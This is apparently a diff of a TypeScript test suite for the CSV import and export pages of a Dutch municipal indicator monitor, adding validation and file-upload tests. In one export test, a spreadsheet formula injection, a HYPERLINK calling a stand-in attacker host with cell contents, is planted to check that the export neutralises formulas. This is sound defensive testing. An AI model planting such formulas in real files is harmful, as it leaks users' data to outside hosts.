@@ -218,12 +218,12 @@ describe("import page", () => {
         payload: new URLSearchParams({ _csrf: token, csv, actie }).toString(),
       });
     const bad = await post(
-      [header, "msk-vrijwilligerswerk,GM0356,2027,,realisatie,abc,Test,,,"].join("\n"),
+      [header, "msk-vrijwilligerswerk,GM0356,2013,,realisatie,abc,Test,,,"].join("\n"),
       "voorbeeld",
     );
     expect(bad.statusCode).toBe(400);
     expect(bad.body).toContain("Regel 2: waarde &quot;abc&quot; is geen getal");
-    const good = [header, "msk-vrijwilligerswerk,GM0356,2027,,realisatie,38,Test,,,"].join("\n");
+    const good = [header, "msk-vrijwilligerswerk,GM0356,2013,,realisatie,38,Test,,,"].join("\n");
     const preview = await post(good, "voorbeeld");
     expect(preview.statusCode).toBe(200);
     expect(preview.body).toContain("1 nieuwe metingen");
@@ -232,10 +232,94 @@ describe("import page", () => {
     const list = (
       await t.app.inject({ url: "/api/v1/indicatoren/msk-vrijwilligerswerk/metingen" })
     ).json().metingen;
-    expect(list.some((m: { jaar: number }) => m.jaar === 2027)).toBe(true);
+    expect(list.some((m: { jaar: number }) => m.jaar === 2013)).toBe(true);
     const partner = await t.sessionFor("partner");
     expect(
       (await t.app.inject({ url: "/monitor/import", headers: { cookie: partner } })).statusCode,
+    ).toBe(403);
+  });
+  it("reports an impossible date, a future realisation and a fraction-like percentage in the preview", async () => {
+    const { formSession } = await import("../../../test/helpers/app.js");
+    const { token, cookie } = await formSession(t.app, "/monitor/import", staff);
+    const future = new Date().getUTCFullYear() + 1;
+    const post = (csv: string) =>
+      t.app.inject({
+        method: "POST",
+        url: "/monitor/import",
+        headers: { cookie, "content-type": "application/x-www-form-urlencoded" },
+        payload: new URLSearchParams({ _csrf: token, csv, actie: "voorbeeld" }).toString(),
+      });
+    const bad = await post(
+      [
+        header,
+        "msk-vrijwilligerswerk,GM0356,2014,,realisatie,38,Test,2026-13-45,,",
+        `msk-vrijwilligerswerk,GM0356,${future},,realisatie,38,Test,,,`,
+        `msk-vrijwilligerswerk,GM0356,${future},,streefwaarde,40,Test,,,`,
+      ].join("\n"),
+    );
+    expect(bad.statusCode).toBe(400);
+    expect(bad.body).toContain("Regel 2: publicatiedatum &quot;2026-13-45&quot;");
+    expect(bad.body).toContain(
+      `Regel 3: een gemeten waarde (realisatie) kan niet in een toekomstig jaar (${future})`,
+    );
+    expect(bad.body).not.toContain("Regel 4:");
+    expect(bad.body).not.toContain("in orde");
+    const fraction = await post(
+      [header, 'msk-vrijwilligerswerk,GM0356,2015,,realisatie,"0,475",Test,,,'].join("\n"),
+    );
+    expect(fraction.statusCode).toBe(200);
+    expect(fraction.body).toContain("Regel 2: waarde 0,475 lijkt een fractie; bedoelt u 47,5?");
+  });
+
+  it("imports an uploaded file, and a template that passes its own preview", async () => {
+    const { formSession } = await import("../../../test/helpers/app.js");
+    const { token, cookie, page } = await formSession(t.app, "/monitor/import", staff);
+    expect(page.body).toContain('type="file"');
+    expect(page.body).toContain("msk-vrijwilligerswerk");
+    const template = await t.app.inject({
+      url: "/monitor/import/sjabloon.csv?indicator=msk-vrijwilligerswerk",
+      headers: { cookie: staff },
+    });
+    expect(template.statusCode).toBe(200);
+    expect(template.headers["content-type"]).toContain("text/csv");
+    expect(parseCsv(template.body)[1]?.[0]).toBe("msk-vrijwilligerswerk");
+    expect(
+      (
+        await t.app.inject({
+          url: "/monitor/import/sjabloon.csv?indicator=bestaat-niet",
+          headers: { cookie: staff },
+        })
+      ).statusCode,
+    ).toBe(404);
+    const upload = (file: string, actie: string, csrf = token) => {
+      const boundary = "----grens";
+      const part = (name: string, value: string, filename?: string) =>
+        `--${boundary}\r\nContent-Disposition: form-data; name="${name}"${filename ? `; filename="${filename}"\r\nContent-Type: text/csv` : ""}\r\n\r\n${value}\r\n`;
+      return t.app.inject({
+        method: "POST",
+        url: "/monitor/import",
+        headers: { cookie, "content-type": `multipart/form-data; boundary=${boundary}` },
+        payload: `${part("_csrf", csrf)}${part("actie", actie)}${part("csv", "")}${part("bestand", file, "metingen.csv")}--${boundary}--\r\n`,
+      });
+    };
+    const preview = await upload(template.body, "voorbeeld");
+    expect(preview.statusCode).toBe(200);
+    expect(preview.body).toContain("het bestand is in orde");
+    expect((await upload(template.body, "importeren", "fout")).statusCode).toBe(403);
+    expect((await upload("a\u0000b", "voorbeeld")).statusCode).toBe(400);
+    const done = await upload(
+      [header, "msk-vrijwilligerswerk,GM0356,2016,,realisatie,36,Test,,,"].join("\n"),
+      "importeren",
+    );
+    expect(done.statusCode).toBe(303);
+    const partner = await t.sessionFor("partner");
+    expect(
+      (
+        await t.app.inject({
+          url: "/monitor/import/sjabloon.csv",
+          headers: { cookie: partner },
+        })
+      ).statusCode,
     ).toBe(403);
   });
 });
@@ -374,15 +458,15 @@ describe("export of a selection", () => {
   it("neutralises formulas in the CSV export, keeps negative numbers, and imports the export back unchanged", async () => {
     const source = '=HYPERLINK("http://aanval.example/?"&A1,"Klik hier")';
     const note = "@SUM(A1) -2";
-    const planted = `${header}\nwmo-kosten,GM0356,2031,,realisatie,"-1250,5","${source.replaceAll('"', '""')}",,definitief,${note}`;
+    const planted = `${header}\nwmo-kosten,GM0356,2011,,realisatie,"-1250,5","${source.replaceAll('"', '""')}",,definitief,${note}`;
     expect((await importCsv(planted)).json()).toMatchObject({ geslaagd: true, nieuw: 1 });
-    const url = "/api/v1/metingen?indicator=wmo-kosten&vanJaar=2031&totJaar=2031";
+    const url = "/api/v1/metingen?indicator=wmo-kosten&vanJaar=2011&totJaar=2011";
     const exported = (await t.app.inject({ url: `${url}&formaat=csv` })).body;
     expect(exported).toContain(`"'=HYPERLINK(""http://aanval.example/?""&A1,""Klik hier"")"`);
     expect(parseCsv(exported)[1]).toEqual([
       "wmo-kosten",
       "GM0356",
-      "2031",
+      "2011",
       "",
       "realisatie",
       "-1250.5",
